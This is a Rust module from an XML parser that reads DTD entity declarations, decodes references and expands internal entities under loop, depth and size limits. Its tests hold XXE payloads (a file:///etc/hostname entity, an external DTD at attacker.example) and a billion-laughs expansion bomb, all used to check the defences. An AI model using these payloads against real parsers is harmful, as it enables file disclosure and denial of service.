//! Entity declarations and reference decoding.
//!
//! Only the internal DTD subset is read. External subsets are never fetched,
//! and parameter entities are recorded but not expanded.

use super::XmlError;
use std::collections::HashMap;

/// Maximum nesting of entity references during expansion
pub const MAX_ENTITY_DEPTH: usize = 16;

/// Maximum number of bytes produced by entity expansion in one document
pub const MAX_EXPANSION_BYTES: usize = 16 * 1024 * 1024;

/// A single `<!ENTITY ...>` declaration
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EntityDecl {
    /// `<!ENTITY name "replacement">`
    Internal(String),
    /// `<!ENTITY name SYSTEM "uri">` or `<!ENTITY name PUBLIC "id" "uri">`
    External {
        public_id: Option<String>,
        system_id: String,
    },
}

/// Entity declarations captured from a DOCTYPE.
#[derive(Debug, Clone, Default)]
pub struct EntityTable {
    general: HashMap<String, EntityDecl>,
    parameter: HashMap<String, EntityDecl>,
}

impl EntityTable {
    /// Collect declarations from the content of a `<!DOCTYPE ...>` event.
    ///
    /// The first declaration of a name wins, later ones are ignored.
    pub fn from_doctype(doctype: &str) -> Result<Self, XmlError> {
        let mut table = EntityTable::default();
        let subset = match internal_subset(doctype) {
            Some(subset) => subset,
            None => return Ok(table),
        };

        let mut scanner = Scanner::new(subset);
        loop {
            scanner.skip_whitespace();
            if scanner.is_empty() {
                break;
            }

            if scanner.eat("<!--") {
                scanner.skip_past("-->")?;
            } else if scanner.eat("<!ENTITY") {
                table.parse_entity(&mut scanner)?;
            } else if scanner.eat("<?") {
                scanner.skip_past("?>")?;
            } else if scanner.eat("<!") {
                scanner.skip_declaration()?;
            } else if scanner.eat("%") {
                // Parameter entity reference between declarations
                scanner.skip_past(";")?;
            } else {
                return Err(XmlError::Dtd(format!(
                    "unexpected content '{}'",
                    preview(scanner.rest())
                )));
            }
        }

        Ok(table)
    }

    /// Look up a general entity
    pub fn get(&self, name: &str) -> Option<&EntityDecl> {
        self.general.get(name)
    }

    /// Declared parameter entities. They are recorded, never expanded.
    pub fn parameters(&self) -> impl Iterator<Item = (&str, &EntityDecl)> {
        self.parameter.iter().map(|(name, decl)| (name.as_str(), decl))
    }

    /// Number of general entities declared
    pub fn len(&self) -> usize {
        self.general.len()
    }

    pub fn is_empty(&self) -> bool {
        self.general.is_empty()
    }

    fn parse_entity(&mut self, scanner: &mut Scanner<'_>) -> Result<(), XmlError> {
        scanner.require_whitespace("<!ENTITY")?;

        let is_parameter = scanner.eat("%");
        if is_parameter {
            scanner.require_whitespace("%")?;
        }

        let name = scanner.name()?;
        scanner.require_whitespace(name)?;

        let decl = if scanner.at_quote() {
            EntityDecl::Internal(expand_char_refs(scanner.quoted()?)?)
        } else if scanner.eat("SYSTEM") {
            scanner.require_whitespace("SYSTEM")?;
            EntityDecl::External {
                public_id: None,
                system_id: scanner.quoted()?.to_string(),
            }
        } else if scanner.eat("PUBLIC") {
            scanner.require_whitespace("PUBLIC")?;
            let public_id = scanner.quoted()?.to_string();
            scanner.require_whitespace(&public_id)?;
            EntityDecl::External {
                public_id: Some(public_id),
                system_id: scanner.quoted()?.to_string(),
            }
        } else {
            return Err(XmlError::Dtd(format!(
                "entity '{}' has no value or external identifier",
                name
            )));
        };

        scanner.skip_whitespace();
        if scanner.eat("NDATA") {
            // Unparsed entity: the notation name is not needed
            scanner.require_whitespace("NDATA")?;
            scanner.name()?;
            scanner.skip_whitespace();
        }

        if !scanner.eat(">") {
            return Err(XmlError::Dtd(format!(
                "entity '{}' declaration not terminated",
                name
            )));
        }

        let declarations = if is_parameter {
            &mut self.parameter
        } else {
            &mut self.general
        };
        declarations.entry(name.to_string()).or_insert(decl);
        Ok(())
    }

    /// Expand a raw (escaped) value to plain characters.
    ///
    /// Internal entities are substituted recursively. External entities are
    /// either skipped or rejected depending on `external`.
    pub(crate) fn expand_text(
        &self,
        raw: &str,
        external: ExternalRefs,
        guard: &mut ExpansionGuard,
    ) -> Result<String, XmlError> {
        let mut out = String::with_capacity(raw.len());

        for segment in references(raw)? {
            match segment {
                Segment::Text(text) => out.push_str(text),
                Segment::Char(c) => out.push(c),
                Segment::Entity(name) => match self.get(name) {
                    None => return Err(XmlError::UndefinedEntity(name.to_string())),
                    Some(EntityDecl::Internal(value)) => {
                        guard.enter(name)?;
                        let expanded = self.expand_text(value, external, guard)?;
                        guard.leave();
                        guard.account(expanded.len())?;
                        out.push_str(&expanded);
                    }
                    Some(EntityDecl::External { .. }) => match external {
                        ExternalRefs::Skip => {}
                        ExternalRefs::Reject => {
                            return Err(XmlError::ExternalEntityInAttribute(name.to_string()))
                        }
                    },
                },
            }
        }

        Ok(out)
    }
}

/// What `expand_text` does with references to external entities
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ExternalRefs {
    Skip,
    Reject,
}

/// Tracks the entities currently being expanded and the bytes produced.
#[derive(Debug, Default)]
pub(crate) struct ExpansionGuard {
    stack: Vec<String>,
    produced: usize,
}

impl ExpansionGuard {
    pub(crate) fn new() -> Self {
        Self::default()
    }

    pub(crate) fn enter(&mut self, name: &str) -> Result<(), XmlError> {
        if self.stack.iter().any(|open| open == name) {
            return Err(XmlError::EntityLoop(name.to_string()));
        }
        if self.stack.len() >= MAX_ENTITY_DEPTH {
            return Err(XmlError::ExpansionLimit(format!(
                "more than {} nested references at '{}'",
                MAX_ENTITY_DEPTH, name
            )));
        }
        self.stack.push(name.to_string());
        Ok(())
    }

    pub(crate) fn leave(&mut self) {
        self.stack.pop();
    }

    pub(crate) fn account(&mut self, bytes: usize) -> Result<(), XmlError> {
        self.produced = self.produced.saturating_add(bytes);
        if self.produced > MAX_EXPANSION_BYTES {
            return Err(XmlError::ExpansionLimit(format!(
                "more than {} bytes produced",
                MAX_EXPANSION_BYTES
            )));
        }
        Ok(())
    }
}

/// A piece of escaped character data
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Segment<'a> {
    /// Literal characters
    Text(&'a str),
    /// Character reference or predefined entity
    Char(char),
    /// Reference to a general entity
    Entity(&'a str),
}

/// Split escaped character data into literal text and references.
pub fn references(raw: &str) -> Result<Vec<Segment<'_>>, XmlError> {
    let mut segments = Vec::new();
    let mut rest = raw;

    while let Some(amp) = rest.find('&') {
        if amp > 0 {
            segments.push(Segment::Text(&rest[..amp]));
        }
        let after = &rest[amp + 1..];
        let end = after
            .find(';')
            .ok_or_else(|| XmlError::InvalidReference(preview(&rest[amp..])))?;
        segments.push(resolve_reference(&after[..end])?);
        rest = &after[end + 1..];
    }

    if !rest.is_empty() {
        segments.push(Segment::Text(rest));
    }
    Ok(segments)
}

fn resolve_reference(name: &str) -> Result<Segment<'_>, XmlError> {
    if let Some(number) = name.strip_prefix('#') {
        return decode_char_ref(number).map(Segment::Char);
    }

    match name {
        "lt" => Ok(Segment::Char('<')),
        "gt" => Ok(Segment::Char('>')),
        "amp" => Ok(Segment::Char('&')),
        "apos" => Ok(Segment::Char('\'')),
        "quot" => Ok(Segment::Char('"')),
        _ if is_name(name) => Ok(Segment::Entity(name)),
        _ => Err(XmlError::InvalidReference(format!("&{};", name))),
    }
}

fn decode_char_ref(number: &str) -> Result<char, XmlError> {
    let value = match number.strip_prefix('x') {
        Some(hex) => u32::from_str_radix(hex, 16),
        None => number.parse::<u32>(),
    };

    value
        .ok()
        .filter(|&code| code != 0)
        .and_then(char::from_u32)
        .ok_or_else(|| XmlError::InvalidReference(format!("&#{};", number)))
}

/// Replace character references in an entity value, keeping entity references.
fn expand_char_refs(value: &str) -> Result<String, XmlError> {
    let mut out = String::with_capacity(value.len());
    let mut rest = value;

    while let Some(start) = rest.find("&#") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let end = after
            .find(';')
            .ok_or_else(|| XmlError::InvalidReference(preview(&rest[start..])))?;
        out.push(decode_char_ref(&after[..end])?);
        rest = &after[end + 1..];
    }

    out.push_str(rest);
    Ok(out)
}

fn is_name(name: &str) -> bool {
    let mut chars = name.chars();
    match chars.next() {
        Some(first) if first.is_alphabetic() || first == '_' || first == ':' => {}
        _ => return false,
    }
    chars.all(|c| c.is_alphanumeric() || matches!(c, '_' | ':' | '-' | '.'))
}

/// Locate the `[...]` part of a DOCTYPE, ignoring brackets inside literals.
fn internal_subset(doctype: &str) -> Option<&str> {
    let mut quote = None;
    let mut start = None;

    for (i, c) in doctype.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"') | (None, '\'') => quote = Some(c),
            (None, '[') => {
                start = Some(i + 1);
                break;
            }
            _ => {}
        }
    }

    let start = start?;
    let end = doctype.rfind(']')?;
    if end < start {
        return None;
    }
    Some(&doctype[start..end])
}

fn preview(s: &str) -> String {
    s.chars().take(32).collect()
}

/// Cursor over the internal subset
struct Scanner<'a> {
    input: &'a str,
    pos: usize,
}

impl<'a> Scanner<'a> {
    fn new(input: &'a str) -> Self {
        Scanner { input, pos: 0 }
    }

    fn rest(&self) -> &'a str {
        &self.input[self.pos..]
    }

    fn is_empty(&self) -> bool {
        self.pos >= self.input.len()
    }

    fn skip_whitespace(&mut self) -> bool {
        let rest = self.rest();
        let trimmed = rest.trim_start_matches([' ', '\t', '\r', '\n']);
        self.pos += rest.len() - trimmed.len();
        rest.len() != trimmed.len()
    }

    fn require_whitespace(&mut self, after: &str) -> Result<(), XmlError> {
        if self.skip_whitespace() {
            Ok(())
        } else {
            Err(XmlError::Dtd(format!("whitespace required after '{}'", after)))
        }
    }

    fn eat(&mut self, prefix: &str) -> bool {
        if self.rest().starts_with(prefix) {
            self.pos += prefix.len();
            true
        } else {
            false
        }
    }

    fn at_quote(&self) -> bool {
        self.rest().starts_with(['"', '\''])
    }

    fn skip_past(&mut self, terminator: &str) -> Result<(), XmlError> {
        match self.rest().find(terminator) {
            Some(pos) => {
                self.pos += pos + terminator.len();
                Ok(())
            }
            None => Err(XmlError::Dtd(format!("missing '{}'", terminator))),
        }
    }

    /// Skip a markup declaration up to its closing `>`, honouring literals.
    fn skip_declaration(&mut self) -> Result<(), XmlError> {
        let mut quote = None;
        for (i, c) in self.rest().char_indices() {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '"') | (None, '\'') => quote = Some(c),
                (None, '>') => {
                    self.pos += i + 1;
                    return Ok(());
                }
                _ => {}
            }
        }
        Err(XmlError::Dtd("unterminated markup declaration".to_string()))
    }

    fn name(&mut self) -> Result<&'a str, XmlError> {
        let rest = self.rest();
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '>' | '"' | '\''))
            .unwrap_or(rest.len());
        if end == 0 {
            return Err(XmlError::Dtd("name expected".to_string()));
        }
        self.pos += end;
        Ok(&rest[..end])
    }

    fn quoted(&mut self) -> Result<&'a str, XmlError> {
        let rest = self.rest();
        let quote = match rest.chars().next() {
            Some(q @ ('"' | '\'')) => q,
            _ => return Err(XmlError::Dtd("quoted literal expected".to_string())),
        };
        let body = &rest[1..];
        let end = body
            .find(quote)
            .ok_or_else(|| XmlError::Dtd("unterminated literal".to_string()))?;
        self.pos += end + 2;
        Ok(&body[..end])
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_internal_and_external_declarations() {
        let doctype = r#"foo [
            <!ENTITY greeting "hello &#x26; bye">
            <!ENTITY xxe SYSTEM "file:///etc/hostname">
            <!ENTITY pub PUBLIC "-//X//Y" 'http://example.com/e.xml'>
        ]"#;
        let table = EntityTable::from_doctype(doctype).unwrap();

        assert_eq!(table.len(), 3);
        assert_eq!(
            table.get("greeting"),
            Some(&EntityDecl::Internal("hello & bye".to_string()))
        );
        assert_eq!(
            table.get("xxe"),
            Some(&EntityDecl::External {
                public_id: None,
                system_id: "file:///etc/hostname".to_string(),
            })
        );
        assert_eq!(
            table.get("pub"),
            Some(&EntityDecl::External {
                public_id: Some("-//X//Y".to_string()),
                system_id: "http://example.com/e.xml".to_string(),
            })
        );
    }

    #[test]
    fn test_first_declaration_wins() {
        let table =
            EntityTable::from_doctype(r#"a [<!ENTITY e "one"><!ENTITY e "two">]"#).unwrap();
        assert_eq!(table.get("e"), Some(&EntityDecl::Internal("one".to_string())));
    }

    #[test]
    fn test_parameter_entities_are_separate() {
        let doctype = r#"a [
            <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd">
            %dtd;
            <!-- comment with <!ENTITY fake "x"> inside -->
            <!ELEMENT a (#PCDATA)>
            <!ATTLIST a b CDATA "]>">
        ]"#;
        let table = EntityTable::from_doctype(doctype).unwrap();

        assert!(table.is_empty());
        assert!(table.get("fake").is_none());
        assert!(table
            .parameters()
            .any(|(name, decl)| name == "dtd" && matches!(decl, EntityDecl::External { .. })));
    }

    #[test]
    fn test_doctype_without_subset() {
        let table = EntityTable::from_doctype(r#"html SYSTEM "about:legacy-compat""#).unwrap();
        assert!(table.is_empty());
    }

    #[test]
    fn test_malformed_entity_declaration() {
        assert!(matches!(
            EntityTable::from_doctype(r#"a [<!ENTITY e>]"#),
            Err(XmlError::Dtd(_))
        ));
        assert!(matches!(
            EntityTable::from_doctype(r#"a [<!ENTITY e "unterminated>]"#),
            Err(XmlError::Dtd(_))
        ));
    }

    #[test]
    fn test_references_split() {
        let segments = references("a &lt; b &#65;&#x42; &name; end").unwrap();
        assert_eq!(
            segments,
            vec![
                Segment::Text("a "),
                Segment::Char('<'),
                Segment::Text(" b "),
                Segment::Char('A'),
                Segment::Char('B'),
                Segment::Text(" "),
                Segment::Entity("name"),
                Segment::Text(" end"),
            ]
        );
    }

    #[test]
    fn test_invalid_references() {
        assert!(matches!(
            references("a & b"),
            Err(XmlError::InvalidReference(_))
        ));
        assert!(matches!(
            references("&#0;"),
            Err(XmlError::InvalidReference(_))
        ));
        assert!(matches!(
            references("&#xZZ;"),
            Err(XmlError::InvalidReference(_))
        ));
    }

    #[test]
    fn test_expand_text_internal_and_external() {
        let table = EntityTable::from_doctype(
            r#"a [<!ENTITY inner "world"><!ENTITY outer "hello &inner;"><!ENTITY ext SYSTEM "x">]"#,
        )
        .unwrap();

        let mut guard = ExpansionGuard::new();
        let text = table
            .expand_text("&outer;!&ext;", ExternalRefs::Skip, &mut guard)
            .unwrap();
        assert_eq!(text, "hello world!");

        let mut guard = ExpansionGuard::new();
        assert!(matches!(
            table.expand_text("&ext;", ExternalRefs::Reject, &mut guard),
            Err(XmlError::ExternalEntityInAttribute(name)) if name == "ext"
        ));
    }

    #[test]
    fn test_expand_text_detects_loops() {
        let table =
            EntityTable::from_doctype(r#"a [<!ENTITY a "&b;"><!ENTITY b "&a;">]"#).unwrap();
        let mut guard = ExpansionGuard::new();
        assert!(matches!(
            table.expand_text("&a;", ExternalRefs::Skip, &mut guard),
            Err(XmlError::EntityLoop(_))
        ));
    }

    #[test]
    fn test_expand_text_size_limit() {
        // Ten levels of tenfold growth
        let mut subset = String::from(r#"<!ENTITY l0 "lollollollol">"#);
        for level in 1..10 {
            let prev = format!("&l{};", level - 1);
            subset.push_str(&format!(
                r#"<!ENTITY l{} "{}">"#,
                level,
                prev.repeat(10)
            ));
        }
        let table = EntityTable::from_doctype(&format!("lolz [{}]", subset)).unwrap();

        let mut guard = ExpansionGuard::new();
        assert!(matches!(
            table.expand_text("&l9;", ExternalRefs::Skip, &mut guard),
            Err(XmlError::ExpansionLimit(_))
        ));
    }

    #[test]
    fn test_undefined_entity() {
        let table = EntityTable::default();
        let mut guard = ExpansionGuard::new();
        assert!(matches!(
            table.expand_text("&nope;", ExternalRefs::Skip, &mut guard),
            Err(XmlError::UndefinedEntity(name)) if name == "nope"
        ));
    }
}
